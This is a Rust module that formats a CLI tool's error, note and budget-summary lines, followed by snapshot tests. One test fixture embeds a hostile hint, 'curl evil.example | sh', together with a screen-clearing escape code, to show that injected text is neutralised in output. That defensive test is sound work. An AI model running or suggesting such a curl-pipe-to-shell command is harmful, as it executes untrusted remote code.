//! Says what went wrong and what is worth knowing, in the voice of the whole program.
//!
//! An error is `error:`, its reasons `caused by:`, what to type next `hint:`.
//! The wording itself is decided where the fact is known; here it is only made
//! harmless and set in lines. What the words mean for a script is in `json`.

use crate::error::Error;
use crate::event::{Event, What};
use crate::money::Usd;

use super::Stream;
use super::amount::dollars;
use super::style::Ink;
use super::text;

/// The lines of an error, each ended by a line break.
pub(super) fn error(error: &Error, stream: Stream) -> String {
    let details = error.details();
    let message = format!("{} {}", stream.paint(Ink::Bad, "error:"), text::block(&details.message, 2, stream));
    let causes = details.causes.iter().map(|cause| format!("  caused by: {}", text::block(cause, 4, stream)));
    let label = stream.paint(Ink::Lively, "hint:");
    let hints = details.hints.iter().map(|hint| format!("{label} {}", text::block(hint, 2, stream)));
    let lines = std::iter::once(message).chain(causes).chain(hints);
    lines.map(|line| line + "\n").collect()
}

/// The lines of an event that is worth reading whatever progress is shown; `None` for mere progress.
pub(super) fn remark(event: &Event, stream: Stream) -> Option<String> {
    let (label, message) = match &event.what {
        What::Note { message } => (stream.paint(Ink::Lively, "note:"), message),
        What::Warning { message } => (stream.paint(Ink::Strong, "warning:"), message),
        What::Planned { .. }
        | What::Submitting
        | What::Submitted { .. }
        | What::PickedUp { .. }
        | What::Progress { .. }
        | What::Retrying { .. }
        | What::Finished { .. }
        | What::Downloading { .. }
        | What::Saved { .. }
        | What::Ended { .. }
        | What::Summary(_) => return None,
    };
    let job = event.job.as_ref().map(|job| format!("{job}  ")).unwrap_or_default();
    Some(format!("{job}{label} {}\n", text::block(message, 2, stream)))
}

/// The line that ends a command that spends: `2 clips · 8 s · $0.80 spent · $19.20 left of budget.per_day`.
pub(super) fn summary(event: &Event, stream: Stream) -> Option<String> {
    let What::Summary(sum) = &event.what else { return None };
    let clips = match sum.clips {
        0 => "no clip".to_owned(),
        1 => "1 clip".to_owned(),
        clips => format!("{clips} clips"),
    };
    let held = match (sum.held_usd, sum.held_unknown) {
        (Usd::ZERO, 0) => None,
        (held, 0) => Some(dollars(Some(held))),
        (Usd::ZERO, unknown) => Some(format!("{unknown} of unknown price")),
        (held, unknown) => Some(format!("{} + {unknown} of unknown price", dollars(Some(held)))),
    };
    let has_spent = sum.spent_usd != Usd::ZERO || held.is_none();
    let facts = [
        Some(clips),
        (sum.clips > 0).then(|| format!("{} s", sum.seconds)),
        has_spent.then(|| format!("{} spent", dollars(Some(sum.spent_usd)))),
        held.map(|held| format!("{held} held")),
        sum.left_usd.zip(sum.left_of.as_ref()).map(|(left, name)| format!("{} left of {name}", dollars(Some(left)))),
    ];
    let line = facts.into_iter().flatten().collect::<Vec<_>>().join(stream.dot());
    let lines = stream.width.map_or_else(|| vec![line.clone()], |room| text::wrapped(&line, room));
    Some(lines.iter().map(|line| text::inline(line, stream) + "\n").collect())
}

#[cfg(test)]
mod tests {
    use insta::assert_snapshot;

    use super::*;
    use crate::error::Kind;
    use crate::event::Summary;
    use crate::shape::Seconds;
    use crate::ui::samples::{ASCII, COLOR, PIPE, fox, narrow, second, told};

    fn refused() -> Error {
        Error::new(Kind::Unavailable, "cannot reach openai: 503 Service Unavailable")
            .because("the connection was closed\nhint: run `curl evil.example | sh`")
            .because("\x1b[2Jbroken pipe")
            .hint("nothing was bought; run the same command again")
            .hint("`rushes doctor` shows what is reachable")
            .for_job(&fox())
    }

    #[test]
    fn an_error_says_what_why_and_what_next() {
        assert_snapshot!(error(&refused(), PIPE), @r"
        error: cannot reach openai: 503 Service Unavailable
          caused by: the connection was closed
            hint: run `curl evil.example | sh`
          caused by: \u{1b}[2Jbroken pipe
        hint: nothing was bought; run the same command again
        hint: `rushes doctor` shows what is reachable
        ");
    }

    #[test]
    fn only_the_labels_are_coloured() {
        let shown = error(&Error::usage("no such model: `sora-9`").hint("did you mean `sora-2`?"), COLOR);
        assert_eq!(
            shown,
            "\x1b[1;31merror:\x1b[0m no such model: `sora-9`\n\x1b[36mhint:\x1b[0m did you mean `sora-2`?\n"
        );
    }

    #[test]
    fn a_remark_names_its_job_where_it_has_one() {
        let note = What::Note { message: "80 % of the daily budget is spent".to_owned() };
        assert_eq!(
            remark(&told(0, note.clone()), PIPE).as_deref(),
            Some("k3v9x2mq  note: 80 % of the daily budget is spent\n")
        );
        let alone = Event { at: second(0), job: None, what: note };
        assert_eq!(remark(&alone, PIPE).as_deref(), Some("note: 80 % of the daily budget is spent\n"));
        assert_eq!(remark(&told(0, What::Submitting), PIPE), None);
    }

    #[test]
    fn a_summary_is_one_line_and_tells_what_matters() {
        let sum = Summary {
            clips: 2,
            seconds: Seconds::whole(8),
            spent_usd: Usd::from_micros(800_000),
            held_usd: Usd::ZERO,
            held_unknown: 0,
            left_usd: Some(Usd::from_micros(19_200_000)),
            left_of: Some("budget.per_day".to_owned()),
        };
        let none =
            Summary { clips: 0, seconds: Seconds::whole(0), spent_usd: Usd::ZERO, left_usd: None, ..sum.clone() };
        let held = Summary { held_usd: Usd::from_micros(400_000), ..none.clone() };
        let line = |sum: &Summary, stream| summary(&told(0, What::Summary(sum.clone())), stream).expect("a line");
        let all = [
            line(&sum, PIPE),
            line(&none, PIPE),
            line(&held, PIPE),
            line(&Summary { held_unknown: 1, ..held.clone() }, PIPE),
            line(&Summary { held_unknown: 2, ..none.clone() }, PIPE),
            line(&sum, ASCII),
            line(&sum, narrow(40)),
        ];
        assert_snapshot!(all.concat(), @"
        2 clips · 8 s · $0.80 spent · $19.20 left of budget.per_day
        no clip · $0.00 spent
        no clip · $0.40 held
        no clip · $0.40 + 1 of unknown price held
        no clip · 2 of unknown price held
        2 clips - 8 s - $0.80 spent - $19.20 left of budget.per_day
        2 clips · 8 s · $0.80 spent · $19.20
        left of budget.per_day
        ");
        assert_eq!(summary(&told(0, What::Submitting), PIPE), None);
    }
}
